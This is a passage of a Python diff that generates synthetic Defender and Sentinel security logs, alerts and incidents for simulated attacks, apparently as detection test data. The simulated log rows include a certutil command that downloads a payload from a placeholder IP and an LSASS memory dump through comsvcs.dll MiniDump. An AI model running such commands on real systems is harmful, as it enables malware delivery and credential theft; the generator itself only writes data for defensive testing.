+    e.add({"DomainName": C2_DOMAIN, "Type": "dns"})
+    e.ip(C2_IP)
+    sa = make_alert(w, rng, ASI, "Known malicious domain contacted (Microsoft Threat Intelligence)", w.fix(t4 + 17 * MINUTE), "Medium",
+                    ents=e, tactics=("CommandAndControl",), techniques=("T1071",), compromised=dev.name,
+                    desc="A device contacted a domain in the Microsoft threat intelligence feed.",
+                    ext={"Analytic Rule Name": "TI map Domain entity to DeviceNetworkEvents", "Query Period": "14.00:00:00",
+                         "Query Frequency": "01:00:00", "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
+                         "Search Query Results Overall Count": "1", "Data Sources": jtext(["DeviceNetworkEvents", "ThreatIntelligenceIndicator"])})
+    make_incident(w, rng, "Azure Sentinel", [sa], rule_ids=[w.rule_ti], comment="Same activity as the Microsoft 365 Defender incident.")
+
+
+def scen_excel_today(w: World, rng: Rng) -> None:
+    """Within the last day: an undetected .xlsm -> EXCEL -> powershell -EncodedCommand (incident still open)."""
+    dev, u = w.dev["ws-fin-017"], w.users[1]
+    t = minute_floor(w.now - 6 * HOUR - 40 * MINUTE) + rng.randint(0, 59) * TICKS + rng.randint(0, TICKS)
+    w.excel_t = t
+    doc = "Remittance_advice_88213.xlsm"
+    m = new_message(w, rng, t, "partner", sender=f"remittance@{MALWARE_SENDER_DOMAIN}", sender_name="Fabrikam Remittance",
+                    mail_from=f"remittance@{MALWARE_SENDER_DOMAIN}", sender_ip="198.51.100.61", sender_ip6="",
+                    subject="Remittance advice 88213", rcpts=[recipient(u)], imid=f"<{rng.hexs(20)}@{MALWARE_SENDER_DOMAIN}>",
+                    urls=[], attachments=[(doc, 61952, "", "", "")], bcl=0)
+    add_msg(w, rng, m)
+    ps, t4 = office_to_powershell(w, rng, dev, u, t + 20 * MINUTE, doc, "EXCEL.EXE", "-EncodedCommand")
+    e = Ents()
+    h, a = e.host(dev), e.account(u)
+    e.process(ps, h, a)
+    e.ip(C2_IP)
+    al = make_alert(w, rng, MDATP, "Suspicious PowerShell command line", w.fix(t4 + 5 * MINUTE), "Medium", ents=e,
+                    tactics=("Execution",), techniques=("T1059",), subtechniques=("T1059.001",), compromised=dev.name,
+                    desc="A suspicious PowerShell command line was found: an encoded command started by Microsoft Excel.")
+    make_incident(w, rng, "Microsoft 365 Defender", [al], "Suspicious PowerShell command line on one endpoint",
+                  steps=("New", "Active"), delays=[0, 25 * MINUTE])
+
+
+def lsass_dump(w: World, rng: Rng, dev: Device, u: Account, t: int, parent: Proc) -> tuple[Proc, list]:
+    lsass_pid = 700 + 4 * rng.randint(0, 60)
+    rd = proc(w, rng, dev, "rundll32.exe", f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\Windows\\Temp\\lsass.dmp full",
+              u, t, parent, elevated=True)
+    dpe(w, rng, dev, t, parent, rd)
+    il = dev_row(w, "DeviceImageLoadEvents", dev, t + 1 * TICKS + rng.randint(0, TICKS))
+    il.update(initiating(rd))
+    md5, sha1, sha256 = hashes("comsvcs.dll")
+    il.update({"ActionType": "ImageLoaded", "FileName": "comsvcs.dll", "FolderPath": r"C:\Windows\System32\comsvcs.dll",
+               "FileSize": 1320448, "MD5": md5, "SHA1": sha1, "SHA256": sha256})
+    add(w, "DeviceImageLoadEvents", il)
+    op = dev_row(w, "DeviceEvents", dev, t + 2 * TICKS + rng.randint(0, TICKS))
+    op.update(initiating(rd))
+    ls = w.exe["lsass.exe"]
+    op.update({"ActionType": "OpenProcessApiCall", "FileName": "lsass.exe", "FolderPath": ls["path"], "ProcessId": lsass_pid,
+               "ProcessCreationTime": w.fix(t - 3 * DAY), "SHA1": ls["sha1"], "SHA256": ls["sha256"], "MD5": ls["md5"],
+               "ProcessCommandLine": "lsass.exe", "AdditionalFields": {"DesiredAccess": 2097151}})
+    add(w, "DeviceEvents", op)
+    add(w, "DeviceFileEvents", file_row(w, dev, t + 4 * TICKS, rd, "FileCreated", r"C:\Windows\Temp", "lsass.dmp", 52_428_800 + rng.randint(0, 9_000_000)))
+    return rd, [lsass_pid]
+
+
+def scen_certutil_lsass(w: World, rng: Rng) -> None:
+    """certutil -urlcache download, the payload runs, then comsvcs.dll MiniDump of LSASS."""
+    dev, u = w.dev["ws-eng-103"], w.users[3]
+    t = w.fix(jitter(rng, day_floor(w.now - 4 * DAY) + 14 * HOUR + 20 * MINUTE))
+    w.certutil_t = t
+    ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", u, t - 5 * HOUR, parent_name="userinit.exe")
+    cmd = proc(w, rng, dev, "cmd.exe", r'"C:\Windows\system32\cmd.exe" ', u, t - 3 * MINUTE, ex, elevated=True)
+    url = f"http://{PAYLOAD_IP}/files/svchost.exe"
+    cu = proc(w, rng, dev, "certutil.exe", f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\svchost.exe", u, t, cmd, elevated=True)
+    dpe(w, rng, dev, t, cmd, cu)
+    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, t + 1 * TICKS, cu, "ConnectionSuccess", PAYLOAD_IP, 80, ""))
+    dropped = w.exe["svchost.exe#dropped"]
+    fr = file_row(w, dev, t + 2 * TICKS, cu, "FileCreated", r"C:\Users\Public", "svchost.exe", dropped["size"])
+    fr.update({"FileOriginUrl": url, "FileOriginIP": PAYLOAD_IP, "SHA1": dropped["sha1"], "SHA256": dropped["sha256"], "MD5": dropped["md5"]})
+    add(w, "DeviceFileEvents", fr)
+    t2 = t + 50 * TICKS + rng.randint(0, TICKS)
+    bad = proc(w, rng, dev, "svchost.exe#dropped", f"C:\\Users\\Public\\svchost.exe -connect {PAYLOAD_IP}:443", u, t2, cmd, elevated=True)
+    dpe(w, rng, dev, t2, cmd, bad)
+    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, t2 + 2 * TICKS, bad, "ConnectionSuccess", PAYLOAD_IP, 443, ""))
+    add(w, "DeviceFileCertificateInfo", cert_row(w, rng, dev, t2 + 5 * MINUTE, "svchost.exe#dropped"))
+    t3 = t + 25 * MINUTE + rng.randint(0, 59) * TICKS
+    rd, _ = lsass_dump(w, rng, dev, u, t3, cmd)
+    e = Ents()
+    h, a = e.host(dev), e.account(u)
+    e.process(cu, h, a)
+    e.url(url)
+    e.ip(PAYLOAD_IP)
+    e.file("svchost.exe", r"C:\Users\Public", dropped["sha1"], dropped["sha256"])
+    al = [make_alert(w, rng, MDATP, "Use of living-off-the-land binary to download a file", w.fix(t + 3 * MINUTE), "Medium", ents=e,
+                     tactics=("CommandAndControl", "DefenseEvasion"), techniques=("T1105", "T1218"), compromised=dev.name,
+                     desc="certutil.exe was used to download a file from a remote address.")]
+    e = Ents()
+    h, a = e.host(dev), e.account(u)
+    e.process(rd, h, a)
+    e.file("lsass.dmp", r"C:\Windows\Temp")
+    for name, sev in (("Process memory dump", "High"), ("Sensitive credential memory read", "High")):
+        al.append(make_alert(w, rng, MDATP, name, w.fix(t3 + rng.randint(2, 6) * MINUTE), sev, ents=e,
+                             tactics=("CredentialAccess",), techniques=("T1003",), subtechniques=("T1003.001",),
+                             compromised=dev.name, desc="The LSASS process memory was dumped with comsvcs.dll MiniDump."))
+    make_incident(w, rng, "Microsoft 365 Defender", al,
+                  "Multi-stage incident involving Execution & Credential access on one endpoint",
+                  comment="Attacker tooling removed; account dkowalski reset; krbtgt rotation scheduled.")
+
+
+def scen_admin_dump(w: World, rng: Rng) -> None:
+    """An administrator dumps LSASS on the SQL server: a benign positive."""
+    dev = w.dev["srv-sql-03"]
+    t = w.fix(jitter(rng, day_floor(w.now - 13 * DAY) + 15 * HOUR + 2 * MINUTE))
+    ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", w.admin, t - HOUR, parent_name="userinit.exe")
+    cmd = proc(w, rng, dev, "cmd.exe", r'"C:\Windows\system32\cmd.exe" ', w.admin, t - 4 * MINUTE, ex, elevated=True)
+    rd, _ = lsass_dump(w, rng, dev, w.admin, t, cmd)
+    e = Ents()
+    h, a = e.host(dev), e.account(w.admin)
+    e.process(rd, h, a)
+    al = make_alert(w, rng, MDATP, "Process memory dump", w.fix(t + 4 * MINUTE), "High", ents=e, tactics=("CredentialAccess",),
+                    techniques=("T1003",), subtechniques=("T1003.001",), compromised=dev.name,
+                    desc="The LSASS process memory was dumped with comsvcs.dll MiniDump.")
+    make_incident(w, rng, "Microsoft 365 Defender", [al], classification=("BenignPositive", "SuspiciousButExpected"),
+                  comment="Admin troubleshooting under change CHG0041273.")
+
+
+def brute_force(w: World, rng: Rng, dev: Device, t: int, src: str, names: list[str], n: int, linux: bool) -> int:
+    """n failed logons from src over ~6 minutes; returns the time after the burst."""
+    for i in range(n):
+        name = names[i % len(names)] if i % 3 else names[0]
+        known = name in ("administrator", "svc-backup", "root")
+        acct = Account(name, dev.short if linux or name == "administrator" else "contoso", "" if linux else
+                       (f"{w.domain_sid}-2117" if name == "svc-backup" else (f"S-1-5-21-3623811015-3361044348-30300820-500" if name == "administrator" else "")))
+        ti = t + i * (6 * MINUTE // n) + rng.randint(0, 5 * TICKS)
+        add(w, "DeviceLogonEvents", logon_row(w, rng, dev, ti, acct, "LogonFailed", "Network", "" if linux else "NTLM",
+                                              src, "" if linux else "kali", failure="InvalidUserNameOrPassword" if known else "UnknownUser"))
+    return t + 6 * MINUTE + 20 * TICKS
+
+
+def scen_rdp_brute_force(w: World, rng: Rng) -> None:
+    """Brute force against the internet-facing RDS host, a success, discovery, then file encryption over SMB."""
+    dev = w.dev["srv-rds-01"]
+    t = w.fix(jitter(rng, day_floor(w.now - 2 * DAY) + 2 * HOUR + 13 * MINUTE))
+    w.rdp_t = t
+    te = brute_force(w, rng, dev, t, BRUTE_IP, ["administrator", "admin", "test", "backup", "svc-backup", "scanner"], 36, False)
+    add(w, "DeviceLogonEvents", logon_row(w, rng, dev, te, w.svc_backup, "LogonSuccess", "Network", "NTLM", BRUTE_IP, "kali"))
+    add(w, "DeviceLogonEvents", logon_row(w, rng, dev, te + 4 * TICKS, w.svc_backup, "LogonSuccess", "RemoteInteractive", "Negotiate", BRUTE_IP, "kali"))
+    ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", w.svc_backup, te + 30 * TICKS, parent_name="userinit.exe")
+    cmd = proc(w, rng, dev, "cmd.exe", r'"C:\Windows\system32\cmd.exe" ', w.svc_backup, te + 2 * MINUTE, ex)
+    dpe(w, rng, dev, cmd.created, ex, cmd)
+    tt = cmd.created
+    procs = []
+    for exe, line in (("whoami.exe", "whoami  /all"), ("net.exe", 'net  group "Domain Admins" /domain'),
+                      ("net.exe", "net  view \\\\srv-file-02"), ("ipconfig.exe", "ipconfig  /all")):
+        tt += rng.randint(8, 40) * TICKS + rng.randint(0, TICKS)
+        p = proc(w, rng, dev, exe, line, w.svc_backup, tt, cmd)
+        dpe(w, rng, dev, tt, cmd, p)
+        procs.append(p)
+    # the encryption, seven hours later, over SMB from the RDS host
+    fs = w.dev["srv-file-02"]
+    tr = w.fix(te + 7 * HOUR + 3 * MINUTE)
+    sysp = proc(w, rng, fs, "System", "", w.system, tr - 9 * DAY, parent_name="")
+    files = []
+    for i in range(110):
+        folder = rng.choice(["Invoices", "Payroll", "Reports\\2025", "Vendors", "Budget"])
+        base = rng.choice(["Invoice", "Payroll", "Report", "Vendor", "Budget", "Statement"]) + f"_{2024 + i % 2}_{i:04d}"
+        files.append((f"D:\\Shares\\Finance\\{folder}", base + rng.choice([".xlsx", ".docx", ".pdf"])))
+    for i, (folder, name) in enumerate(files[:10]):
+        r = file_row(w, fs, tr + i * 3 * TICKS + rng.randint(0, TICKS), sysp, "FileRenamed", folder, name + ".locked", rng.randint(30000, 800000))
+        r.update({"PreviousFileName": name, "PreviousFolderPath": f"{folder}\\{name}", "RequestAccountName": "svc-backup",
+                  "RequestAccountDomain": "CONTOSO", "RequestAccountSid": w.svc_backup.sid, "RequestProtocol": "SMB",
+                  "RequestSourceIP": dev.ip, "RequestSourcePort": rng.randint(49152, 65535), "ShareName": "Finance",
+                  "SensitivityLabel": "General", "IsAzureInfoProtectionApplied": False})
+        add(w, "DeviceFileEvents", r)
+    note = file_row(w, fs, tr + 40 * TICKS, sysp, "FileCreated", r"D:\Shares\Finance", "README_RESTORE_FILES.txt", 1722)
+    note.update({"RequestAccountName": "svc-backup", "RequestAccountDomain": "CONTOSO", "RequestAccountSid": w.svc_backup.sid,
+                 "RequestProtocol": "SMB", "RequestSourceIP": dev.ip, "RequestSourcePort": rng.randint(49152, 65535), "ShareName": "Finance"})
+    add(w, "DeviceFileEvents", note)
+    # alerts: Defender for Cloud (status syncs), Identity, Endpoint, a Sentinel rule
+    e = Ents()
+    e.host(dev)
+    e.ip(BRUTE_IP)
+    e.resource(vm_id(w, dev.short))
+    asc = make_alert(w, rng, ASC, "Suspicious authentication activity", w.fix(te + 2 * MINUTE), "Medium", ents=e,
+                     tactics=("CredentialAccess",), techniques=("T1110",), compromised=dev.short, resource_id=vm_id(w, dev.short),
+                     alert_type="VM_LoginBruteForceValidUserFailed",
+                     desc="Many failed authentication attempts from one IP address, followed by a successful logon of svc-backup.",
+                     ext={"resourceType": "Virtual Machine", "Compromised Host": dev.short, "Source IP": BRUTE_IP,
+                          "Failed attempts": "36", "Successful logons": "1", "OriginalAlertType": "VM_LoginBruteForceValidUserFailed"},
+                     remediation=["Block the source IP at the network security group.", "Enable just-in-time VM access."])
+    w.asc_sync.append(asc)
+    e = Ents()
+    e.account(w.svc_backup)
+    e.ip(BRUTE_IP)
+    e.host(dev)
+    idn = make_alert(w, rng, AATP, "Suspected brute-force attack (Kerberos, NTLM)", w.fix(te + 9 * MINUTE), "Medium", ents=e,
+                     tactics=("CredentialAccess",), techniques=("T1110",), subtechniques=("T1110.001", "T1110.003"),
+                     alert_type="BruteForceSecurityAlert", compromised=w.svc_backup.upn,
+                     desc="36 password guesses against 6 accounts from kali (203.0.113.45); svc-backup succeeded.",
+                     ext={"ActivityCount": "37", "Category": "CredentialAccess"})
+    e = Ents()
+    h, a = e.host(dev), e.account(w.svc_backup)
+    for p in procs[:2]:
+        e.process(p, h, a)
+    disc = make_alert(w, rng, MDATP, "Suspicious sequence of exploration activities", w.fix(tt + 3 * MINUTE), "Low", ents=e,
+                      tactics=("Discovery",), techniques=("T1033", "T1069", "T1016"), subtechniques=("T1069.002",),
+                      compromised=dev.name, desc="A process ran several commands often used for reconnaissance.")
+    e = Ents()
+    h = e.host(fs)
+    e.account(w.svc_backup)
+    e.ip(dev.ip)
+    for folder, name in files:
+        md5, sha1, sha256 = hashes(folder + name)
+        e.file(name + ".locked", "\\\\srv-file-02\\Finance\\" + folder[len("D:\\Shares\\Finance\\"):], sha1, sha256)
+    big = make_alert(w, rng, MDATP, "Ransomware behavior detected in the file system", w.fix(tr + 4 * MINUTE), "High", ents=e,
+                     tactics=("Impact",), techniques=("T1486",), compromised=fs.name,
+                     desc=f"{len(files)} files on the Finance share were renamed to .locked over SMB by svc-backup from srv-rds-01.",
+                     ext={"Note": "Entities holds all affected files: this row is larger than 30 KB."})
+    w.big_alert = big
+    make_incident(w, rng, "Microsoft 365 Defender", [idn, disc, big],
+                  "Multi-stage incident involving Initial access & Impact on multiple endpoints",
+                  steps=("New", "Active", "Active", "Closed"), comment="svc-backup disabled; share restored from backup.",
+                  labels=("Ransomware",), tasks=("Disable svc-backup", "Restore share", "Block 203.0.113.45"))
+    e = Ents()
+    e.account(w.svc_backup)
+    e.ip(BRUTE_IP)
+    e.host(dev)
+    si = make_alert(w, rng, ASI, "Multiple failed logons followed by a success", w.fix(te + 47 * MINUTE), "Medium", ents=e,
+                    tactics=("CredentialAccess",), techniques=("T1110",), compromised=dev.name,
+                    desc="An account logged on after many failures from the same IP address.",
+                    ext={"Analytic Rule Name": "Brute force: failures then success", "Query Period": "1.00:00:00",
+                         "Query Frequency": "01:00:00", "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
+                         "Search Query Results Overall Count": "1", "Data Sources": jtext(["DeviceLogonEvents"])})
+    make_incident(w, rng, "Azure Sentinel", [si], rule_ids=[w.rule_bf], labels=("Brute force",))
+
+
+def scen_ssh_brute_force(w: World, rng: Rng) -> None:
+    dev = w.dev["web-01"]
+    t = w.fix(jitter(rng, day_floor(w.now - 10 * DAY) + 4 * HOUR + 41 * MINUTE))
+    w.ssh_t = t
+    brute_force(w, rng, dev, t, BRUTE_IP2, ["root", "admin", "ubuntu", "oracle", "test"], 20, True)
+    e = Ents()
+    e.host(dev)
+    e.ip(BRUTE_IP2)
+    e.resource(vm_id(w, dev.short))
+    a = make_alert(w, rng, ASC, "Failed SSH brute force attack", w.fix(t + 9 * MINUTE), "Low", ents=e,
+                   tactics=("PreAttack",), compromised=dev.short, resource_id=vm_id(w, dev.short),
+                   alert_type="VM_SshBruteForceFailed", desc="20 failed SSH logons from 198.51.100.99; none succeeded.",
+                   ext={"resourceType": "Virtual Machine", "Compromised Host": dev.short, "Attacker source IP": BRUTE_IP2,
+                        "Number of failed authentication attempts to host": "20", "OriginalAlertType": "VM_SshBruteForceFailed"})
+    w.asc_sync.append(a)
+
+
+def scen_connectors(w: World, rng: Rng) -> None:
+    """The first alerts after each connector is connected (IoT ~15 min, Identity ~24 h)."""
+    e = Ents()
+    d = iot_entity(w, rng, e, 0)
+    t = w.iot_connected + 15 * MINUTE + rng.randint(0, 100) * TICKS + rng.randint(0, TICKS)
+    w.iot_first = make_alert(w, rng, IOT, "Unauthorized Internet Connectivity Detected", t, "High", ents=e,
+                             tactics=("InitialAccess",), compromised=d, desc="A PLC was seen communicating with an internet address.",
+                             ext={"Protocol": "TCP", "Sensor": "sensor-plant-a", "Zone": "Plant A - Line 2", "Site": "Redmond plant",
+                                  "Destination": "192.0.2.200:443"})
+    e = Ents()
+    e.account(w.users[15])
+    e.host(w.dev["ws-eng-131"])
+    t = w.idn_connected + 24 * HOUR + rng.randint(1, 9) * MINUTE + rng.randint(0, MINUTE)
+    w.idn_first = make_alert(w, rng, AATP, "Account enumeration reconnaissance", t, "Medium", ents=e,
+                             tactics=("Discovery",), techniques=("T1087",), subtechniques=("T1087.002",),
+                             alert_type="AccountEnumerationSecurityAlert", compromised=w.users[15].upn,
+                             desc="Kerberos account enumeration from ws-eng-131 against srv-dc-01.",
+                             ext={"ActivityCount": "112", "Category": "Discovery"})
+    make_incident(w, rng, "Microsoft 365 Defender", [w.idn_first], classification=("BenignPositive", "SuspiciousButExpected"),
+                  comment="Authorized penetration test.")
+
+
+IOT_DEVICES = [("plc-line2-01", "PLC", "Siemens", "SIMATIC S7-1500", "10.20.2.5", ["S7", "Profinet"]),
+               ("hmi-line2", "HMI", "Rockwell Automation", "PanelView 5510", "10.20.2.20", ["EtherNet/IP"]),
+               ("rtu-pump-03", "RTU", "Schneider Electric", "SCADAPack 470", "10.20.3.13", ["Modbus", "DNP3"]),
+               ("eng-ws-ot-01", "Engineering Station", "Dell", "Precision 3660", "10.20.1.15", ["S7", "RDP"])]
+
+
+def iot_entity(w: World, rng: Rng, e: Ents, i: int | None = None) -> str:
+    name, typ, vendor, model, ip, protos = IOT_DEVICES[rng.randrange(len(IOT_DEVICES)) if i is None else i]
+    ipe = e.ip(ip)
+    e.add({"DeviceId": hashlib.md5(name.encode()).hexdigest(), "DeviceName": name, "DeviceType": typ, "Vendor": vendor,
+           "Model": model, "Protocols": protos, "IpAddress": e.ref(ipe), "Zone": "Plant A - Line 2",
+           "Site": "Redmond plant", "Sensor": "sensor-plant-a", "IsAuthorized": True, "Type": "iotdevice"})
+    return name
+
+
+def scen_inventory(w: World, rng: Rng) -> None:
+    """DeviceInfo oddities: a re-imaged device merged into its new record, a discovered printer."""
+    dev = w.dev["ws-hr-008"]
+    old = Device()
+    old.__dict__.update(dev.__dict__)
+    old.id = rng.hexs(40)
+    dev.merged_from = old.id
+    w.merge_t = w.fix(jitter(rng, day_floor(w.now - 12 * DAY) + 16 * HOUR, 3000))
+    row = info_row(w, rng, old, w.merge_t)
+    row.update({"IsExcluded": True, "ExclusionReason": "Duplicate", "MergedToDeviceId": dev.id,
+                "SensorHealthState": "Inactive", "LoggedOnUsers": [], "ReportId": row["ReportId"] - 5})
+    add(w, "DeviceInfo", row)
+    pid = rng.hexs(40)
+    for k in range(2):
+        t = w.fix(jitter(rng, day_floor(w.now - (11 - 6 * k) * DAY) + 3 * HOUR, 3000))
+        add(w, "DeviceInfo", {
+            "Timestamp": t, "TimeGenerated": t, "Type": "DeviceInfo", "TenantId": w.tenant, "SourceSystem": "Azure",
+            "DeviceId": pid, "DeviceName": "prn-fl2-01", "MachineGroup": "", "ReportId": 41 + k, "AppGuardContainerId": "",
+            "AadDeviceId": "", "DeviceObjectId": "", "AdditionalFields": {"DiscoverySources": ["DeviceDiscovery"], "FirstSeen": fmt_dt(w.start + 6 * HOUR)},
+            "AssetValue": "Normal", "ClientVersion": "", "DeviceCategory": "IoT", "DeviceType": "Printer",
+            "DeviceSubtype": "MultiFunctionPrinter", "ExclusionReason": "", "ExposureLevel": "Medium",
+            "IsAzureADJoined": None, "IsExcluded": False, "IsInternetFacing": False, "JoinType": "",
+            "LoggedOnUsers": [], "MergedDeviceIds": "", "MergedToDeviceId": "", "Model": "LaserJet Enterprise MFP M634",
+            "Vendor": "HP", "OnboardingStatus": "Unsupported", "OSArchitecture": "", "OSBuild": None, "OSDistribution": "",
+            "OSPlatform": "", "OSVersion": "", "OSVersionInfo": "", "PublicIP": "", "RegistryDeviceTag": "",
+            "SensorHealthState": ""})
+
+
+def scen_rdp_session(w: World, rng: Rng) -> None:
+    """Both ends of an RDP session: LogonAttempted by mstsc.exe, LogonSuccess on the server."""
+    src, dst, u = w.dev["ws-eng-103"], w.dev["srv-rds-01"], w.users[3]
+    t = w.fix(jitter(rng, day_floor(w.now - 5 * DAY) + 9 * HOUR + 31 * MINUTE))
+    ex = proc(w, rng, src, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", u, t - 2 * HOUR, parent_name="userinit.exe")
+    ms = proc(w, rng, src, "mstsc.exe", '"C:\\WINDOWS\\system32\\mstsc.exe" /v:srv-rds-01.contoso.local', u, t - 9 * TICKS, ex)
+    add(w, "DeviceLogonEvents", logon_row(w, rng, src, t, u, "LogonAttempted", "RemoteInteractive", "Negotiate",
+                                          dst.ip, dst.name, ms))
+    add(w, "DeviceLogonEvents", logon_row(w, rng, dst, t + 2 * TICKS, u, "LogonSuccess", "RemoteInteractive", "Kerberos",
+                                          src.ip, "WS-ENG-103"))
+
+
+SCENARIOS = [scen_rdp_session, scen_inventory, scen_connectors, scen_admin_dump, scen_phish_a, scen_ssh_brute_force, scen_macro_malware,
+             scen_certutil_lsass, scen_phish_b, scen_rdp_brute_force, scen_excel_today]
+
+
+# ---------------------------------------------------------------------------
+# filler alerts and their incidents
+
+MDATP_T = [  # name, severity, tactics, techniques, subtechniques
+    ("Suspicious PowerShell command line", "Medium", ("Execution",), ("T1059",), ("T1059.001",)),
+    ("'Presenoker' unwanted software was detected", "Low", ("Unknown",), (), ()),
+    ("Suspicious LDAP query", "Low", ("Discovery",), ("T1087", "T1069"), ("T1087.002",)),
+    ("Suspicious Task Scheduler activity", "Low", ("Persistence", "Execution"), ("T1053",), ("T1053.005",)),
+    ("Anomalous account lookups", "Low", ("Discovery",), ("T1087",), ()),
+    ("An uncommon file was created and added to a Run Key", "Medium", ("Persistence",), ("T1547",), ("T1547.001",)),
+    ("Suspicious process injection observed", "Medium", ("DefenseEvasion", "PrivilegeEscalation"), ("T1055",), ()),
+    ("Possible attempt to access Primary Refresh Token (PRT)", "Medium", ("CredentialAccess",), ("T1528",), ()),
+]
+OATP_T = [
+    ("Email reported by user as malware or phish", "Informational", ("InitialAccess",), ("T1566",), ()),
+    ("Email messages from a campaign removed after delivery", "Informational", ("InitialAccess",), ("T1566",), ()),
+    ("Email messages containing malicious URL removed after delivery", "Informational", ("InitialAccess",), ("T1566",), ()),
+    ("Suspicious email sending patterns detected", "Medium", ("Exfiltration",), (), ()),
+]
+AATP_T = [
+    ("Network-mapping reconnaissance (DNS)", "Medium", ("Discovery",), ("T1046",), (), "DnsReconnaissanceSecurityAlert"),
+    ("User and IP address reconnaissance (SMB)", "Medium", ("Discovery",), ("T1049",), (), "EnumerateSessionsSecurityAlert"),
+    ("Security principal reconnaissance (LDAP)", "Medium", ("Discovery",), ("T1087",), ("T1087.002",), "LdapSearchReconnaissanceSecurityAlert"),
+    ("Suspicious additions to sensitive groups", "Medium", ("Persistence", "CredentialAccess"), ("T1098",), (), "AbnormalSensitiveGroupMembershipChangeSecurityAlert"),
+    ("Account enumeration reconnaissance", "Medium", ("Discovery",), ("T1087",), ("T1087.002",), "AccountEnumerationSecurityAlert"),
+]
+ASC_T = [  # name, severity, tactics, alert type, resource
+    ("Failed SSH brute force attack", "Low", ("PreAttack",), "VM_SshBruteForceFailed", "web-01"),
+    ("Traffic detected from IP addresses recommended for blocking", "Low", ("PreAttack",), "Network_TrafficFromUnrecommendedIP", "srv-rds-01"),
+    ("Azure Resource Manager operation from suspicious IP address", "Medium", ("Execution",), "ARM_OperationFromSuspiciousIP", None),
+    ("Access from a Tor exit node to a storage account", "High", ("PreAttack",), "Storage.Blob_TorAnomaly", "stcontosodata01"),
+    ("Potential SQL Brute Force attempt", "High", ("PreAttack",), "SQL.VM_BruteForce", "srv-sql-03"),
+    ("Suspicious process executed", "High", ("Execution",), "VM_SuspectProcess", "srv-rds-01"),
+]
+IOT_T = [
+    ("New Asset Detected", "Informational", ("Discovery",)),
+    ("PLC Stop Command Was Sent", "High", ("InhibitResponseFunction",)),
+    ("Unauthorized PLC Programming", "High", ("ImpairProcessControl",)),
+    ("Excessive Login Attempts", "Medium", ("LateralMovement",)),
+    ("Illegal MODBUS Operation (Function Code Zero)", "Medium", ("ImpairProcessControl",)),
+    ("Firmware Change Detected", "Medium", ("Persistence", "InhibitResponseFunction")),
+]
+ASI_T = [
+    ("Rare RDP Connections", "Medium", ("LateralMovement",), ("T1021",), "DeviceNetworkEvents"),
+    ("Mass download by a single user", "Medium", ("Exfiltration",), ("T1030",), "DeviceFileEvents"),
+    ("New user created and added to the built-in administrators group", "Medium", ("Persistence",), ("T1098",), "DeviceEvents"),
+    ("Phishing link click observed in Network Traffic", "Medium", ("InitialAccess",), ("T1566",), "EmailUrlInfo"),
+]
+CLASSIFICATIONS = [(5, ("TruePositive", "SuspiciousActivity")), (3, ("BenignPositive", "SuspiciousButExpected")),
+                   (2, ("FalsePositive", "IncorrectAlertLogic")), (1, ("FalsePositive", "InaccurateData")),
+                   (1, ("Undetermined", ""))]
+
+
+def random_steps(rng: Rng):
+    return rng.wpick([(2, ("New",)), (2, ("New", "Active")), (5, ("New", "Active", "Closed")), (1, ("New", "Closed"))])
+
+
+def sync_lifecycle(w: World, rng: Rng, a: dict, with_incident: bool) -> None:
+    """Defender for Cloud status sync: each change is a new SecurityAlert row."""
+    if with_incident:
+        rows = make_incident(w, rng, "Azure Sentinel", [a], steps=("New", "Active", "Closed"), rule_ids=[w.rule_msc],
+                             classification=rng.wpick(CLASSIFICATIONS))
+        for r in rows[1:]:
+            t = w.fix(r["TimeGenerated"] + rng.randint(40, 180) * TICKS + rng.randint(0, TICKS))
+            if t < w.now:
+                update_alert(w, rng, a, t, "InProgress" if r["Status"] == "Active" else "Resolved")
+        return
+    t = a["TimeGenerated"]
+    for status in rng.wpick([(3, ("Resolved",)), (1, ("InProgress", "Resolved")), (1, ("Dismissed",))]):
+        t = w.fix(t + rng.randint(30, 600) * MINUTE + rng.randint(0, MINUTE))
+        if t >= w.now:
+            break
+        update_alert(w, rng, a, t, status)
+
+
+def fill_alert(w: World, rng: Rng, product: str) -> None:
+    lo = {IOT: w.iot_connected + 20 * MINUTE, AATP: w.idn_connected + 25 * HOUR}.get(product)
+    t = w.rand_time(rng, lo=lo, office=False)
+    e = Ents()
+    if product == MDATP:
+        name, sev, tac, tech, sub = rng.choice(MDATP_T)
+        dev = rng.choice([d for d in w.devices if d.windows])
+        u = w.user_of(dev, rng)
+        e.host(dev)
+        e.account(u)
+        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, subtechniques=sub, compromised=dev.name,
+                       alert_type="WindowsDefenderAv" if "unwanted" in name else "")
+    elif product == OATP:
+        name, sev, tac, tech, sub = rng.choice(OATP_T)
+        for u in rng.sample(w.users, rng.randint(1, 3)):
+            e.mailbox(u)
+        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, subtechniques=sub,
+                       ext={"Category": "ThreatManagement"})
+    elif product == AATP:
+        name, sev, tac, tech, sub, typ = rng.choice(AATP_T)
+        u = rng.choice(w.users)
+        e.account(u)
+        e.host(w.dev["srv-dc-01"])
+        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, subtechniques=sub,
+                       alert_type=typ, compromised=u.upn, ext={"ActivityCount": str(rng.randint(2, 300))})
+    elif product == ASC:
+        name, sev, tac, typ, res = rng.choice(ASC_T)
+        if res is None:
+            rid = f"/subscriptions/{w.asc_subscription}"
+        elif res.startswith("st"):
+            rid = f"/subscriptions/{w.asc_subscription}/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/{res}"
+        else:
+            rid = vm_id(w, res)
+        e.resource(rid)
+        e.ip(f"192.0.2.{rng.randint(2, 250)}")
+        conf = rng.choice([("", None), ("High", 0.9), ("Medium", 0.30000000000000004), ("Low", 0.125)])
+        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, compromised=res or w.asc_subscription,
+                       resource_id=rid, alert_type=typ, confidence=conf,
+                       ext={"resourceType": "Virtual Machine" if "virtualMachines" in rid else "Subscription",
